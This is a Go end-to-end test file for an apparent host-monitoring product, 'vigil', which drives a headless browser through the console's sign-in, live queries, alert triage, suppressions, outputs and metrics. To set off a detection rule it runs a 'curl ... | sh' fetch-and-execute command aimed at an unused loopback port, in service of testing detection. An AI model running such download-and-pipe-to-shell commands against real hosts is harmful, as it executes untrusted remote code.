package main

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/vigilhq/vigil"
	"github.com/vigilhq/vigil/detect/output"
	"github.com/vigilhq/vigil/ingest"
	"github.com/vigilhq/vigil/state"
)

// chromiumPath is Debian's chromium (apt-get install chromium).
const chromiumPath = "/usr/bin/chromium"

// browser is a headless chromium driving the console of one Main.
type browser struct {
	t         testing.TB
	ctx       context.Context
	base      string
	artifacts string
	shot      int

	mu       sync.Mutex
	problems []string // page exceptions, CSP violations, console errors
}

// artifactsDir is VIGIL_ARTIFACTS or a fresh temporary directory (kept:
// the screenshots are for people to look at).
func artifactsDir(t testing.TB) string {
	dir := os.Getenv("VIGIL_ARTIFACTS")
	if dir == "" {
		var err error
		if dir, err = os.MkdirTemp("", "vigil-console-"); err != nil {
			t.Fatal(err)
		}
	}
	dir = filepath.Join(dir, t.Name())
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshots go to %s", dir)
	return dir
}

// spkiPin is the base64 SHA-256 of the server certificate's public key,
// read over TLS verified against the data directory's private CA. Chromium
// then trusts exactly that key (--ignore-certificate-errors-spki-list)
// instead of ignoring every certificate error.
func spkiPin(t testing.TB, m *Main) string {
	t.Helper()
	pem, err := os.ReadFile(m.Profile().CAFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pem) {
		t.Fatalf("no CA certificate in %s", m.Profile().CAFile)
	}
	u, _ := url.Parse(m.URL())
	conn, err := tls.Dial("tcp", u.Host, &tls.Config{RootCAs: pool, ServerName: u.Hostname()})
	if err != nil {
		t.Fatalf("TLS to %s with the private CA: %v", u.Host, err)
	}
	defer conn.Close()
	leaf := conn.ConnectionState().PeerCertificates[0]
	sum := sha256.Sum256(leaf.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(sum[:])
}

func newBrowser(t testing.TB, m *Main) *browser {
	t.Helper()
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Skipf("console end-to-end test needs Debian's chromium at %s (apt-get install -y chromium): %v", chromiumPath, err)
	}
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(chromiumPath),
		chromedp.Headless,
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.NoFirstRun,
		chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("disable-dev-shm-usage", true),
		chromedp.Flag("ignore-certificate-errors-spki-list", spkiPin(t, m)),
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1440, 900),
	}
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx)
	t.Cleanup(func() { cancel(); cancelAlloc() })
	// Start the browser on a context without a deadline (a deadline on the
	// first run would stop the browser), then watch the console.
	if err := chromedp.Do(ctx); err != nil {
		t.Fatalf("starting %s: %v", chromiumPath, err)
	}
	b := &browser{t: t, ctx: ctx, base: m.URL(), artifacts: artifactsDir(t)}
	msgs := chromedp.Console(ctx)
	go func() {
		for msg, err := range msgs {
			if err != nil {
				return
			}
			// The test provokes a 401 (wrong token), a 400 (a DELETE in
			// the explorer) and a 502 (a test send to an output that is
			// down); the browser logs those responses.
			if strings.Contains(msg.Text, "Failed to load resource") &&
				(strings.Contains(msg.Text, "status of 401") || strings.Contains(msg.Text, "status of 400") ||
					strings.Contains(msg.Text, "status of 502")) {
				continue
			}
			if msg.Type == chromedp.ConsoleException || msg.Type == chromedp.ConsoleError ||
				strings.Contains(msg.Text, "Content Security Policy") {
				b.mu.Lock()
				b.problems = append(b.problems, fmt.Sprintf("%s: %s", msg.Type, msg.Text))
				b.mu.Unlock()
			}
		}
	}()
	return b
}

// do runs actions with a bound on waiting (not a timing assertion).
func (b *browser) do(what string, actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.screenshot("failed-" + strings.ReplaceAll(what, " ", "-"))
		b.t.Fatalf("%s: %v", what, err)
	}
}

// waitJS waits until a JavaScript expression is truthy.
func (b *browser) waitJS(what, expr string) {
	b.t.Helper()
	b.do(what, chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Poll[chromedp.Void](expr, chromedp.WithPollingInterval(100*time.Millisecond), chromedp.WithPollingTimeout(80*time.Second))(ctx, t)
		return err
	}))
}

// click clicks the element sel as soon as it exists. Finding and clicking
// happen in one evaluation, because the console re-renders panels (an
// alert's detail after its rule loads) and a node found by one protocol
// call may be gone by the next.
func (b *browser) click(what, sel string) {
	b.t.Helper()
	s, _ := json.Marshal(sel)
	b.waitJS(what, fmt.Sprintf(`(() => { const e = document.querySelector(%s); if (!e || e.disabled) return false; e.click(); return true; })()`, s))
}

// waitText waits until the element sel contains text.
func (b *browser) waitText(sel, text string) {
	b.t.Helper()
	s, _ := json.Marshal(sel)
	x, _ := json.Marshal(text)
	b.waitJS(fmt.Sprintf("%s shows %q", sel, text), fmt.Sprintf(`(document.querySelector(%s)?.textContent || '').includes(%s)`, s, x))
}

func (b *browser) text(sel string) string {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	s, err := chromedp.Run(ctx, chromedp.TextContent(chromedp.CSS(sel)))
	if err != nil {
		b.t.Fatalf("text of %s: %v", sel, err)
	}
	return s
}

// set sets the value of the element sel (as a paste would, without key
// events) and tells the page with an input event.
func (b *browser) set(sel, value string) chromedp.Action[chromedp.Void] {
	s, _ := json.Marshal(sel)
	v, _ := json.Marshal(value)
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`(() => { const e = document.querySelector(%s); e.value = %s; e.dispatchEvent(new Event('input')); })()`, s, v))(ctx, t)
		return err
	})
}

func (b *browser) goTo(hash string) {
	b.t.Helper()
	h, _ := json.Marshal(hash)
	b.do("go to "+hash, chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Evaluate[chromedp.Void]("location.hash = "+string(h))(ctx, t)
		return err
	}))
}

// screenshot saves the whole page as NN-name.png in the artifacts.
func (b *browser) screenshot(name string) string {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		b.t.Errorf("screenshot %s: %v", name, err)
		return ""
	}
	b.shot++
	p := filepath.Join(b.artifacts, fmt.Sprintf("%02d-%s.png", b.shot, name))
	if err := os.WriteFile(p, png, 0o644); err != nil {
		b.t.Errorf("writing %s: %v", p, err)
	}
	b.t.Logf("screenshot %s", p)
	return p
}

func (b *browser) checkConsole() {
	b.t.Helper()
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, p := range b.problems {
		b.t.Errorf("browser console: %s", p)
	}
}

// apiGet calls the people API as the CLI does.
func apiGet(t testing.TB, m *Main, path string, v any) {
	t.Helper()
	pem, err := os.ReadFile(m.Profile().CAFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	c := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	req, _ := http.NewRequest("GET", m.URL()+path, nil)
	req.Header.Set("Authorization", "Bearer "+m.Profile().Token)
	res, err := c.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("GET %s: %s", path, res.Status)
	}
	if err := json.NewDecoder(res.Body).Decode(v); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
}

func TestConsoleEndToEnd(t *testing.T) {
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Skipf("console end-to-end test needs Debian's chromium at %s (apt-get install -y chromium): %v", chromiumPath, err)
	}
	root := os.Geteuid() == 0
	hook := newHookReceiver(t)
	m := startConsoleMain(t, root, hook.outputsFile(t))
	hostname, _ := os.Hostname()
	var hostID string
	eventually(t, "local agent enrolled", time.Minute, func() (bool, string) {
		var res struct{ Hosts []vigil.Host }
		apiGet(t, m, "/api/v1/hosts", &res)
		if len(res.Hosts) == 1 {
			hostID = res.Hosts[0].ID
			return true, ""
		}
		return false, fmt.Sprint(res.Hosts)
	})
	b := newBrowser(t, m)

	// Sign in: the page, a wrong token, the right one.
	b.do("open the console", chromedp.Navigate(b.base+"/"), chromedp.WaitVisible(chromedp.ID("token")))
	b.screenshot("signin")
	b.do("a wrong token", chromedp.SendKeys(chromedp.ID("token"), "vgl_wrong"), chromedp.Click(chromedp.ID("signin")))
	b.waitText(".signin .error", "not valid")
	b.do("sign in", b.set("#token", ""), chromedp.SendKeys(chromedp.ID("token"), m.Profile().Token),
		chromedp.Click(chromedp.ID("signin")))
	b.waitText("#who", "vigil-up-admin")

	// Hosts: the local agent is listed online.
	b.goTo("#/hosts")
	b.waitText("#hosts tbody", hostname)
	if s := b.text("#hosts tbody"); !strings.Contains(s, "online") {
		t.Errorf("hosts page: %q does not say online", s)
	}
	b.click("host details", "#hosts tbody tr")
	b.waitText(".detail", hostID)
	// Health comes from the agent's status lines in the store.
	b.waitJS("agent health", `!!document.querySelector('#host-counters, #host-status-lines, #host-health p.note:not(:empty)') && !document.querySelector('#host-health').textContent.includes('Loading')`)
	if s := b.text("#host-health"); strings.Contains(s, "unavailable") {
		t.Errorf("host health: %q", s)
	}
	b.screenshot("hosts")

	// Live query with completion: "processe" completes to "processes".
	child := exec.Command("sleep", "300")
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { child.Process.Kill(); child.Wait() })
	pid := strconv.Itoa(child.Process.Pid)
	b.goTo("#/query")
	b.do("type a query", chromedp.WaitVisible(chromedp.ID("sql")), chromedp.SendKeys(chromedp.ID("sql"), "SELECT pid, name FROM processe"))
	b.waitText("#sql-complete", "processes")
	b.screenshot("query-completion")
	b.do("accept the completion", chromedp.KeyEvent("\t"))
	b.do("finish the query", chromedp.SendKeys(chromedp.ID("sql"), " WHERE pid = "+pid))
	ctx, cancel := context.WithTimeout(b.ctx, 10*time.Second)
	sql, err := chromedp.Run(ctx, chromedp.Value(chromedp.ID("sql")))
	cancel()
	if err != nil || sql != "SELECT pid, name FROM processes WHERE pid = "+pid {
		t.Fatalf("editor holds %q (%v), want the completed query", sql, err)
	}
	b.do("run", chromedp.Click(chromedp.ID("run")))
	b.waitJS("live query done", `document.querySelector('#query-status')?.dataset.done === 'true'`)
	res := b.text("#query-results")
	if !strings.Contains(res, pid) || !strings.Contains(res, "sleep") || !strings.Contains(b.text("#query-hosts"), "ok") {
		t.Errorf("live query results %q / hosts %q: want the sleep child %s and status ok", res, b.text("#query-hosts"), pid)
	}
	b.screenshot("query-results")

	// Exports: the browser saves them into the artifacts directory (files
	// of an earlier run go first, or the browser would pick new names).
	for _, f := range []string{"live-query.csv", "live-query.json"} {
		os.Remove(filepath.Join(b.artifacts, f))
	}
	b.do("allow downloads", chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		_, err := chromedp.Call(ctx, cdpbrowser.SetDownloadBehavior, cdpbrowser.SetDownloadBehaviorParams{
			Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: b.artifacts})
		return err
	}), chromedp.Click(chromedp.ID("live-query-csv")), chromedp.Click(chromedp.ID("live-query-json")))
	var csv, js []byte
	eventually(t, "exported files", 30*time.Second, func() (bool, string) {
		csv, _ = os.ReadFile(filepath.Join(b.artifacts, "live-query.csv"))
		js, _ = os.ReadFile(filepath.Join(b.artifacts, "live-query.json"))
		return len(csv) > 0 && len(js) > 0, fmt.Sprintf("csv %d bytes, json %d bytes", len(csv), len(js))
	})
	// Columns in the SELECT's order (pid, name), as the agent sent them.
	if want := "_host,pid,name\r\n" + hostname + "," + pid + ",sleep\r\n"; string(csv) != want {
		t.Errorf("CSV export %q, want %q", csv, want)
	}
	var exported []map[string]string
	if err := json.Unmarshal(js, &exported); err != nil || len(exported) != 1 || exported[0]["pid"] != pid || exported[0]["name"] != "sleep" {
		t.Errorf("JSON export %s (%v)", js, err)
	}

	// An alert: a command a built-in rule matches (needs root for audit
	// process events); otherwise one committed straight into state.
	var mark [6]byte
	rand.Read(mark[:])
	marker := "vigil-console-" + hex.EncodeToString(mark[:]) + ".sh"
	findAlert := func() (vigil.Alert, bool) {
		var res struct{ Alerts []vigil.Alert }
		apiGet(t, m, "/api/v1/alerts?limit=1000", &res)
		for _, a := range res.Alerts {
			if cl, _ := a.Fields["process_command_line"].(string); strings.Contains(cl, marker) {
				return a, true
			}
		}
		return vigil.Alert{}, false
	}
	detected := false
	if root {
		cmdline := "curl -s http://127.0.0.1:9/" + marker + " | sh"
		if out, err := exec.Command("bash", "-c", cmdline).CombinedOutput(); err != nil {
			t.Logf("bash -c %q: %v %s (expected: nothing listens)", cmdline, err, out)
		}
		// Without audit netlink (another process may hold it) the process
		// connector misses argv of short-lived processes: then no alert.
		for deadline := time.Now().Add(45 * time.Second); time.Now().Before(deadline) && !detected; time.Sleep(500 * time.Millisecond) {
			_, detected = findAlert()
		}
		if !detected {
			t.Log("root, but the detection did not see the command (audit netlink busy?); triaging an alert committed into state instead")
		}
	} else {
		t.Log("not root: no process events; the alert to triage is committed straight into state")
	}
	if !detected {
		if _, err := m.state.CommitAlerts(context.Background(), "console-test", "process_creation", 1, []vigil.Alert{{
			RuleID: "console-test", RuleTitle: "Console test", Level: vigil.LevelHigh, HostID: hostID, Hostname: hostname,
			EventID: marker, EventTable: "process_creation", EventTime: time.Now(),
			Fields: map[string]any{"process_command_line": "curl -s http://127.0.0.1:9/" + marker + " | sh"}}}); err != nil {
			t.Fatal(err)
		}
	}
	var alert vigil.Alert
	eventually(t, "alert for the marker", 30*time.Second, func() (ok bool, _ string) {
		alert, ok = findAlert()
		return ok, "no alert names " + marker
	})

	// Triage in the console: open, assign, acknowledge, close with a reason.
	row := fmt.Sprintf(`#alerts tbody tr[data-id="%d"]`, alert.ID)
	b.goTo("#/alerts?status=open")
	b.click("open the alert", row)
	b.waitText("#alert-detail", marker)
	b.waitText("#alert-detail", alert.RuleTitle)
	b.screenshot("alert-detail")
	b.do("assign", b.set("#assignee", ""), chromedp.SendKeys(chromedp.ID("assignee"), "alice"), chromedp.Click(chromedp.ID("assign")))
	b.waitText("#detail-assignee", "alice")
	b.do("acknowledge", chromedp.Click(chromedp.ID("ack")))
	b.waitText("#detail-status", "acknowledged")
	b.do("close", chromedp.SendKeys(chromedp.ID("close-reason"), "test download, expected"), chromedp.Click(chromedp.ID("close")))
	b.waitText("#detail-status", "closed")
	b.screenshot("alert-closed")
	var closed struct{ Alerts []vigil.Alert }
	apiGet(t, m, "/api/v1/alerts?status=closed&limit=1000", &closed)
	found := false
	for _, a := range closed.Alerts {
		if a.ID == alert.ID {
			found = true
			if a.Assignee != "alice" || a.CloseReason != "test download, expected" {
				t.Errorf("closed alert %+v: want assignee alice and the reason", a)
			}
		}
	}
	if !found {
		t.Errorf("alert %d is not closed in state", alert.ID)
	}
	audit, err := m.state.AuditLog(context.Background(), state.AuditFilter{Action: "alert.update"})
	if err != nil || len(audit) < 3 {
		t.Errorf("alert updates audited %d times (%v), want 3", len(audit), err)
	}

	// Suppress similar: from the closed alert's detail, matches of its
	// rule on this host with the same command line.
	cmdline, _ := alert.Fields["process_command_line"].(string)
	b.click("open the suppress panel", "#suppress-panel summary")
	b.do("fill the suppression", b.set("#sup-field", "process_command_line"), b.set("#sup-reason", "console test command"),
		b.set("#sup-expires", "8h"))
	b.click("suppress", "#suppress")
	b.waitText("#sup-result", "Suppression #")
	b.screenshot("alert-suppress")
	var sups struct{ Suppressions []state.Suppression }
	apiGet(t, m, "/api/v1/suppressions", &sups)
	if len(sups.Suppressions) != 1 {
		t.Fatalf("suppressions after suppress similar: %+v", sups.Suppressions)
	}
	sup := sups.Suppressions[0]
	if sup.RuleID != alert.RuleID || sup.Host != hostID || sup.Field != "process_command_line" || sup.Value != cmdline ||
		sup.Reason != "console test command" || sup.CreatedBy != "vigil-up-admin" ||
		sup.ExpiresAt.Sub(sup.CreatedAt).Round(time.Minute) != 8*time.Hour {
		t.Errorf("suppression %+v: want rule %s, host %s, the command line, the reason, 8 h", sup, alert.RuleID, hostID)
	}
	// It silences the next match like the alert, not another command.
	again := alert
	again.ID, again.EventID, again.Status, again.Assignee, again.CloseReason = 0, marker+"-again", "", "", ""
	other := again
	other.EventID, other.Fields = marker+"-other", map[string]any{"process_command_line": "something else"}
	if _, _, suppressed, err := m.state.CommitMatches(context.Background(), alert.RuleID, "process_creation", 0,
		[]vigil.Alert{again, other}, nil, 0); err != nil || suppressed != 1 {
		t.Errorf("matches after the suppression: %d suppressed (%v), want 1", suppressed, err)
	}
	// Listed on its page with the hit, then expired there.
	b.goTo("#/suppressions")
	supRow := fmt.Sprintf(`#suppressions tbody tr[data-id="%d"]`, sup.ID)
	b.waitText(supRow, "console test command")
	if s := b.text(supRow); !strings.Contains(s, hostID) || !strings.Contains(s, "process_command_line") {
		t.Errorf("suppression row %q", s)
	}
	b.waitJS("the hit is counted", fmt.Sprintf(`(document.querySelector(%q)?.cells[7]?.textContent || '').startsWith('1')`, supRow))
	b.screenshot("suppressions")
	b.click("expire", fmt.Sprintf(`button.expire[data-id="%d"]`, sup.ID))
	b.waitText("#sup-count", "0 suppression(s)")
	b.click("show expired", "#sup-expired")
	b.waitText(supRow, "expired")
	apiGet(t, m, "/api/v1/suppressions", &sups)
	if len(sups.Suppressions) != 0 {
		t.Errorf("active suppressions after expiry: %+v", sups.Suppressions)
	}
	if log, _ := m.state.AuditLog(context.Background(), state.AuditFilter{Action: "suppression.expire"}); len(log) != 1 || log[0].Actor != "vigil-up-admin" {
		t.Errorf("expiry audited as %+v", log)
	}

	// Bulk: three alerts selected with the keyboard (j, x) and closed at once.
	var bulk []vigil.Alert
	for i := range 3 {
		bulk = append(bulk, vigil.Alert{RuleID: "bulk-test", RuleTitle: "Bulk test", Level: vigil.LevelLow, HostID: hostID,
			Hostname: hostname, EventID: fmt.Sprint(marker, "-bulk-", i), EventTable: "process_creation", EventTime: time.Now()})
	}
	if _, err := m.state.CommitAlerts(context.Background(), "bulk-test", "process_creation", 3, bulk); err != nil {
		t.Fatal(err)
	}
	b.goTo("#/alerts?status=open&rule=bulk-test")
	b.waitText("#alert-count", "3 alerts")
	b.do("select three", chromedp.KeyEvent("j"), chromedp.KeyEvent("x"), chromedp.KeyEvent("j"), chromedp.KeyEvent("x"),
		chromedp.KeyEvent("j"), chromedp.KeyEvent("x"))
	b.waitText(".bulk", "3 selected")
	b.do("bulk close", chromedp.SendKeys(chromedp.ID("bulk-reason"), "duplicate of the test alert"), chromedp.Click(chromedp.ID("bulk-close")))
	b.waitText("#alert-count", "0 alerts")
	var bulkClosed struct{ Alerts []vigil.Alert }
	apiGet(t, m, "/api/v1/alerts?status=closed&rule=bulk-test", &bulkClosed)
	if len(bulkClosed.Alerts) != 3 || bulkClosed.Alerts[0].CloseReason != "duplicate of the test alert" {
		t.Errorf("bulk-closed alerts %+v", bulkClosed.Alerts)
	}

	// Dedupe: three matches of one rule, host and group fold into one
	// alert, which the list shows with its match count.
	var dup []vigil.Alert
	for i := range 3 {
		dup = append(dup, vigil.Alert{RuleID: "dedupe-test", RuleTitle: "Dedupe test", Level: vigil.LevelMedium, HostID: hostID,
			Hostname: hostname, EventID: fmt.Sprint(marker, "-dup-", i), EventTable: "process_creation", EventTime: time.Now(),
			Fields: map[string]any{"user_name": "backup"}})
	}
	if _, deduped, _, err := m.state.CommitMatches(context.Background(), "dedupe-test", "process_creation", 0, dup,
		[]string{"user_name"}, time.Hour); err != nil || deduped != 2 {
		t.Fatalf("dedupe setup: %d deduped, %v", deduped, err)
	}
	b.goTo("#/alerts?status=open&rule=dedupe-test")
	b.waitText("#alert-count", "1 alerts")
	b.waitText("#alerts tbody", "×3")
	b.click("open the deduplicated alert", "#alerts tbody tr")
	b.waitText("#detail-matches", "3 (last ")
	b.screenshot("alert-dedupe")

	// The event explorer finds the event (root) or answers a count.
	b.goTo("#/events")
	q := "SELECT count(*) AS n FROM process_creation"
	if detected {
		q = "SELECT event_time, process_command_line FROM process_creation WHERE process_command_line LIKE '%" + marker + "%'"
	}
	b.do("explorer query", chromedp.WaitVisible(chromedp.ID("event-sql")), b.set("#event-sql", q),
		chromedp.Click(chromedp.ID("event-run")))
	b.waitText("#event-summary", "row(s)")
	if detected {
		b.waitText("#event-results", marker)
	}
	b.screenshot("events")
	// A statement other than SELECT is refused by the store.
	b.do("explorer write", b.set("#event-sql", "DELETE FROM process_creation"), chromedp.Click(chromedp.ID("event-run")))
	b.waitJS("explorer error", `!!document.querySelector('#event-results .error')`)

	// The host timeline around the alert, from the alert's link.
	// With the keyboard: "/" focuses the filter, Escape leaves it, j
	// selects the first alert and Enter opens it.
	b.goTo("#/alerts?status=closed")
	b.do("keyboard", chromedp.WaitVisible(chromedp.CSS(row)), chromedp.KeyEvent("/"))
	b.waitJS("/ focuses the filter", `document.activeElement?.id === 'f-host'`)
	b.do("keyboard", chromedp.KeyEvent("\x1b"), chromedp.KeyEvent("j"))
	b.waitJS("j selects the first alert", `document.activeElement?.matches('#alerts tbody tr:first-child')`)
	b.do("keyboard", chromedp.KeyEvent("\r"))
	b.waitText("#alert-detail", marker)
	b.click("to the timeline", "#to-timeline")
	b.waitText("#tl-summary", "events on "+hostname)
	if detected {
		b.waitText("#timeline", marker)
	}
	b.screenshot("timeline")

	// Rules: listed, and one tested against stored events.
	b.goTo("#/rules")
	b.waitJS("rules listed", `document.querySelectorAll('#rules tbody tr').length > 0`)
	ruleRow := "#rules tbody tr button"
	if detected {
		ruleRow = fmt.Sprintf(`#rules tbody tr[data-id=%q] button`, alert.RuleID)
	}
	b.click("load a rule", ruleRow)
	b.waitJS("rule source", `document.querySelector('#rule-yaml').value.includes('detection')`)
	b.do("test the rule", chromedp.Click(chromedp.ID("rule-test")))
	b.waitText("#rule-test-summary", "matching event(s)")
	if detected {
		// The rule that raised the alert finds its event when tested.
		b.waitText("#rule-test-out", marker)
	}
	b.screenshot("rules")

	// Outputs: a test send to the receiver (signed), one to an output
	// that is down (its error shown), and a dead letter redelivered.
	payload, _ := json.Marshal([]vigil.Alert{{RuleID: "console-test", RuleTitle: "Console test", Level: vigil.LevelHigh,
		HostID: hostID, Hostname: hostname, EventID: marker + "-dead", EventTable: "process_creation", Status: vigil.AlertOpen}})
	dlID, err := m.state.AddDeadLetter(context.Background(), state.DeadLetter{Output: "soc", Kind: "webhook", Payload: string(payload),
		Error: "POST soc: 503 Service Unavailable", Attempts: 5})
	if err != nil {
		t.Fatal(err)
	}
	b.goTo("#/outputs")
	b.waitText(`#outputs tbody tr[data-output="soc"]`, "webhook")
	b.waitJS("dead letter listed", fmt.Sprintf(`!!document.querySelector('#dead-letter-list tr[data-id="%d"]')`, dlID))
	b.click("test send", `button.test-send[data-output="soc"]`)
	b.waitText(`td.test-result[data-output="soc"]`, "delivered")
	if got := hook.received(); len(got) != 1 || len(got[0].Alerts) != 1 || got[0].Alerts[0].RuleID != "vigil-test" {
		t.Errorf("receiver got %+v, want the test alert", got)
	}
	b.click("test send to a dead output", `button.test-send[data-output="down"]`)
	b.waitText(`td.test-result[data-output="down"]`, "connection refused")
	b.screenshot("outputs-test-send")
	b.click("redeliver", fmt.Sprintf(`button.redeliver[data-id="%d"]`, dlID))
	b.waitJS("dead letter gone", fmt.Sprintf(`!document.querySelector('#dead-letter-list tr[data-id="%d"]')`, dlID))
	b.waitText(`#outputs tbody tr[data-output="soc"]`, "webhook")
	got := hook.received()
	if len(got) != 2 || len(got[1].Alerts) != 1 || got[1].Alerts[0].EventID != marker+"-dead" {
		t.Errorf("receiver got %+v, want the test alert then the dead letter's", got)
	}
	if _, err := m.state.DeadLetter(context.Background(), dlID); !errors.Is(err, vigil.ErrNotFound) {
		t.Errorf("redelivered dead letter: %v, want it deleted", err)
	}
	for action, want := range map[string]int{"output.test": 2, "dead_letter.redeliver": 1} {
		if log, _ := m.state.AuditLog(context.Background(), state.AuditFilter{Action: action}); len(log) != want {
			t.Errorf("%s audited %d times, want %d", action, len(log), want)
		}
	}
	b.screenshot("outputs")

	// Agent drop counters: a counters status line of this host reaches
	// /metrics as vigil_agent_dropped_events, summed per source.
	if err := m.store.Append(context.Background(), vigil.Batch{Results: []vigil.ResultRow{{ID: marker + "-counters", HostID: hostID,
		Hostname: hostname, Query: ingest.StatusQuery, Action: ingest.ActionStatus, Time: time.Now(),
		Columns: map[string]string{"severity": "1", "message": "event counters: audit events=10 kernel_lost=2 queue_dropped=1; process_events added=5 dropped=4"}}}}); err != nil {
		t.Fatal(err)
	}
	mres, err := http.Get(m.MetricsURL())
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(mres.Body)
	mres.Body.Close()
	for _, want := range []string{`vigil_agent_dropped_events{source="audit"} 3`, `vigil_agent_dropped_events{source="process_events"} 4`} {
		if mres.StatusCode != 200 || !strings.Contains(string(body), want+"\n") {
			t.Errorf("/metrics (%d) has no %q:\n%s", mres.StatusCode, want, grepLines(string(body), "vigil_agent"))
		}
	}
	b.checkConsole()
}

func grepLines(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// hookReceiver is a local webhook receiver that checks signatures.
type hookReceiver struct {
	srv    *httptest.Server
	secret string
	mu     sync.Mutex
	got    []output.WebhookPayload
	bad    []string
}

func newHookReceiver(t *testing.T) *hookReceiver {
	h := &hookReceiver{secret: "console-test-webhook-secret"}
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		defer h.mu.Unlock()
		if err := output.Verify([]byte(h.secret), r.Header.Get(output.SignatureTimestampHeader), r.Header.Get(output.SignatureHeader),
			body, time.Now(), time.Minute); err != nil {
			h.bad = append(h.bad, err.Error())
			http.Error(w, err.Error(), http.StatusUnauthorized)
			return
		}
		var p output.WebhookPayload
		if err := json.Unmarshal(body, &p); err != nil {
			h.bad = append(h.bad, err.Error())
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		h.got = append(h.got, p)
	}))
	t.Cleanup(func() {
		h.srv.Close()
		for _, b := range h.bad {
			t.Errorf("webhook receiver refused a request: %s", b)
		}
	})
	return h
}

// received is what arrived, minus alerts of real detections (with root
// the built-in rules may alert on the machine's own activity).
func (h *hookReceiver) received() []output.WebhookPayload {
	h.mu.Lock()
	defer h.mu.Unlock()
	var out []output.WebhookPayload
	for _, p := range h.got {
		if len(p.Alerts) > 0 && (p.Alerts[0].RuleID == "vigil-test" || p.Alerts[0].RuleID == "console-test") {
			out = append(out, p)
		}
	}
	return out
}

// outputsFile writes an outputs file with the receiver ("soc") and an
// output nothing listens for ("down").
func (h *hookReceiver) outputsFile(t *testing.T) string {
	p := filepath.Join(t.TempDir(), "outputs.yml")
	doc := fmt.Sprintf(`retry: {attempts: 2, initial: 10ms, max: 20ms}
outputs:
  - name: soc
    type: webhook
    url: %s/hook
    secret: %s
  - name: down
    type: webhook
    url: http://127.0.0.1:1/hook
    secret: x
`, h.srv.URL, h.secret)
	if err := os.WriteFile(p, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// startConsoleMain is startMain with alert outputs.
func startConsoleMain(t *testing.T, events bool, outputsFile string) *Main {
	t.Helper()
	level := slog.LevelWarn
	if testing.Verbose() {
		level = slog.LevelInfo
	}
	m := NewMain(ServerOptions{
		DataDir:          t.TempDir(),
		Listen:           "127.0.0.1:0",
		WithAgent:        true,
		AgentEvents:      events,
		DetectInterval:   300 * time.Millisecond,
		ScheduleInterval: time.Second,
		OutputsFile:      outputsFile,
		MetricsListen:    "127.0.0.1:0",
		Logger:           slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: level})),
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	if err := m.Run(ctx); err != nil {
		t.Fatalf("vigil up: %v", err)
	}
	t.Cleanup(func() {
		if err := m.Close(); err != nil {
			t.Errorf("close: %v", err)
		}
	})
	return m
}

// BenchmarkConsolePageLoad100k times a full load of the console's alert
// page in chromium (HTML, modules, CSS, whoami, the newest 100 alerts,
// rendering) with 100,000 alerts in state.
func BenchmarkConsolePageLoad100k(b *testing.B) {
	if _, err := os.Stat(chromiumPath); err != nil {
		b.Skipf("needs Debian's chromium at %s (apt-get install -y chromium): %v", chromiumPath, err)
	}
	m := NewMain(ServerOptions{DataDir: b.TempDir(), Listen: "127.0.0.1:0", DetectInterval: time.Hour})
	if err := m.Run(context.Background()); err != nil {
		b.Fatal(err)
	}
	defer m.Close()
	ctx := context.Background()
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for start := 0; start < 100_000; start += 5000 {
		var as []vigil.Alert
		for i := start; i < start+5000; i++ {
